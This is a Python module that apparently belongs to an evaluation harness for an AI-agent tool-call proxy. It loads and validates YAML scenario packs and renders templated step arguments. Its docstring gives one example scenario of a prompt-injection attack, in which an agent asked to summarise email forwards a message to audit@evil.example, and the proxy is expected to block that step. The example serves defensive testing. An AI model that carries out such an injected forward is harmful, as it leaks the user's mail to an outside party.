"""Scenario packs: loaded strictly, checked against the tool catalogue and the policies,
and the templating that lets a step's arguments copy a value out of an earlier result.

A pack is a YAML file, `eval/efficacy/packs/<name>.yaml`:

    description: what the pack covers
    policy: mail                   # the policy its scenarios run under (eval/efficacy/policies/)
    scenarios:
      - id: mail-forward-injected  # unique over every pack loaded
        label: malicious           # or legit
        about: one line: why this is legit or an attack
        task: "Summarise my unread email."   # optional: the user's stated task
        policy: mail               # optional: overrides the pack's
        steps:                     # in order; the last one is the action the label is about
          - tool: email__list_inbox           # server__tool, as policies name it
            args: {folder: inbox}
            result: {messages: [...]}         # what the upstream answers (a mapping)
          - tool: email__forward_email
            args: {message_id: "{{steps[0].messages[0].id}}", to: audit@evil.example}

The expected verdict is the label's: a legit scenario should run to its end with nothing
blocked; a malicious one should have its last step (the attack) blocked.

Templating: a string argument may hold `{{steps[N].PATH}}`, N an earlier step (0-based)
and PATH keys and indexes into the result the agent received through the proxy
(`.key`, `[i]`), e.g. `{{steps[1].body}}` or `{{steps[0].messages[2].id}}`. An argument
that is exactly one template takes the referenced value as it is (a number stays a
number); templates inside a longer string are replaced by the value's text. Nothing else
is interpreted: no expressions, no escapes.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Annotated, Any, Literal

import orjson
import yaml
from pydantic import BaseModel, ConfigDict, Field, StringConstraints, ValidationError

from bastion._errors import ConfigError

HERE = Path(__file__).resolve().parent
PACKS = HERE / "packs"
POLICIES = HERE / "policies"
CATALOGUE = HERE / "tools.yaml"

_TEMPLATE = re.compile(r"\{\{\s*steps\[(\d+)\]((?:\.[A-Za-z0-9_-]+|\[\d+\])*)\s*\}\}")
_PATH_PART = re.compile(r"\.([A-Za-z0-9_-]+)|\[(\d+)\]")
_ID = r"^[a-z0-9][a-z0-9-]{0,79}$"
_TOOL = r"^[a-z0-9][a-z0-9_-]*__[a-z0-9][a-z0-9_.-]*$"


class _Strict(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)


class Step(_Strict):
    """One call the agent makes, and what the upstream answers when it is forwarded."""

    tool: Annotated[str, StringConstraints(pattern=_TOOL)]
    args: dict[str, Any] = Field(default_factory=dict)
    result: dict[str, Any] = Field(default_factory=lambda: {"ok": True})

    @property
    def server(self) -> str:
        return self.tool.split("__", 1)[0]

    @property
    def name(self) -> str:
        return self.tool.split("__", 1)[1]


class Scenario(_Strict):
    id: Annotated[str, StringConstraints(pattern=_ID)]
    label: Literal["legit", "malicious"]
    about: Annotated[str, StringConstraints(min_length=1)]
    task: str = ""
    policy: str = ""
    steps: Annotated[tuple[Step, ...], Field(min_length=1)]
    #: Set by the loader: the pack the scenario comes from.
    pack: str = ""


class Pack(_Strict):
    description: Annotated[str, StringConstraints(min_length=1)]
    policy: Annotated[str, StringConstraints(pattern=_ID)]
    scenarios: Annotated[tuple[Scenario, ...], Field(min_length=1)]
    name: str = ""


def catalogue(path: Path = CATALOGUE) -> dict[str, dict[str, dict[str, Any]]]:
    """The tool catalogue: server → tool → {description, params: {name: type}}."""
    data = _load_yaml(path)
    if not isinstance(data, dict) or not all(isinstance(tools, dict) for tools in data.values()):
        raise ConfigError(f"{path}: expected a mapping of server names to their tools")
    return data


def pack_path(name: str) -> Path:
    """A pack by name (`banking` → eval/efficacy/packs/banking.yaml), or a path to a YAML file."""
    if name.endswith((".yaml", ".yml")) or "/" in name:
        return Path(name)
    if not (PACKS / f"{name}.yaml").is_file():
        raise ConfigError(f"no pack {name!r}: the packs are {', '.join(available_packs())}, or give a YAML file")
    return PACKS / f"{name}.yaml"


def available_packs() -> list[str]:
    return sorted(path.stem for path in PACKS.glob("*.yaml"))


def load_packs(names: Sequence[str], tools: Mapping[str, Mapping[str, Any]]) -> list[Pack]:
    """The named packs (all of eval/efficacy/packs/ when none are named), checked together:
    scenario ids unique over all of them, every tool in the catalogue, every policy present,
    every template naming an earlier step."""
    paths = [pack_path(name) for name in names] or [PACKS / f"{name}.yaml" for name in available_packs()]
    packs = [_load_pack(path) for path in paths]
    seen: dict[str, str] = {}
    for pack in packs:
        for scenario in pack.scenarios:
            where = f"{pack.name}/{scenario.id}"
            if scenario.id in seen:
                raise ConfigError(f"{where}: scenario id already used in pack {seen[scenario.id]!r}")
            seen[scenario.id] = pack.name
            if not policy_path(scenario.policy).is_file():
                raise ConfigError(f"{where}: no policy {scenario.policy!r} (expected {policy_path(scenario.policy)})")
            for index, step in enumerate(scenario.steps):
                if step.name not in tools.get(step.server, {}):
                    raise ConfigError(f"{where} step {index}: {step.tool} is not in the tool catalogue {CATALOGUE}")
                _check_templates(step.args, index, f"{where} step {index}")
    return packs


def policy_path(name: str) -> Path:
    return POLICIES / f"{name}.yaml"


def _load_pack(path: Path) -> Pack:
    data = _load_yaml(path)
    if not isinstance(data, dict):
        raise ConfigError(f"{path}: a pack is a mapping with description, policy and scenarios")
    try:
        pack = Pack.model_validate(data)
    except ValidationError as exc:
        problems = "; ".join(f"{'.'.join(map(str, e['loc']))}: {e['msg']}" for e in exc.errors()[:5])
        raise ConfigError(f"{path}: {problems}") from exc
    scenarios = tuple(
        scenario.model_copy(update={"pack": path.stem, "policy": scenario.policy or pack.policy})
        for scenario in pack.scenarios
    )
    return pack.model_copy(update={"name": path.stem, "scenarios": scenarios})


def _load_yaml(path: Path) -> Any:
    # The policy loader's: it refuses duplicate keys (PyYAML would keep the last silently).
    from bastion.policy._document import _StrictLoader

    try:
        return yaml.load(path.read_text(encoding="utf-8"), Loader=_StrictLoader)  # noqa: S506 - a SafeLoader
    except (OSError, UnicodeDecodeError) as exc:
        raise ConfigError(f"cannot read {path}: {exc}") from exc
    except yaml.YAMLError as exc:
        raise ConfigError(f"{path}: not valid YAML: {exc}") from exc


def _check_templates(value: Any, step: int, where: str) -> None:
    if isinstance(value, str):
        if "{{" in value and _TEMPLATE.sub("", value).count("{{"):
            raise ConfigError(f"{where}: {value!r} holds '{{{{' outside a {{{{steps[N].path}}}} template")
        for match in _TEMPLATE.finditer(value):
            if int(match.group(1)) >= step:
                raise ConfigError(f"{where}: {match.group(0)} does not name an earlier step")
    elif isinstance(value, dict):
        for item in value.values():
            _check_templates(item, step, where)
    elif isinstance(value, list):
        for item in value:
            _check_templates(item, step, where)


class TemplateError(Exception):
    """A template names something the referenced result does not hold."""


def render(value: Any, results: Sequence[Any]) -> Any:
    """`value` (a step's arguments) with its templates replaced from `results` (what each
    earlier step returned to the agent, by index)."""
    if isinstance(value, dict):
        return {key: render(item, results) for key, item in value.items()}
    if isinstance(value, list):
        return [render(item, results) for item in value]
    if not isinstance(value, str) or "{{" not in value:
        return value
    whole = _TEMPLATE.fullmatch(value)
    if whole is not None:
        return _lookup(whole, results)
    return _TEMPLATE.sub(lambda match: _text(_lookup(match, results)), value)


def _lookup(match: re.Match[str], results: Sequence[Any]) -> Any:
    index = int(match.group(1))
    if index >= len(results):
        raise TemplateError(f"{match.group(0)}: step {index} has no result")
    found = results[index]
    for key, position in _PATH_PART.findall(match.group(2)):
        if key and isinstance(found, dict) and key in found:
            found = found[key]
        elif position and isinstance(found, list) and int(position) < len(found):
            found = found[int(position)]
        else:
            raise TemplateError(f"{match.group(0)}: step {index}'s result has no {key or '[' + position + ']'}")
    return found


def _text(value: Any) -> str:
    return value if isinstance(value, str) else orjson.dumps(value).decode()
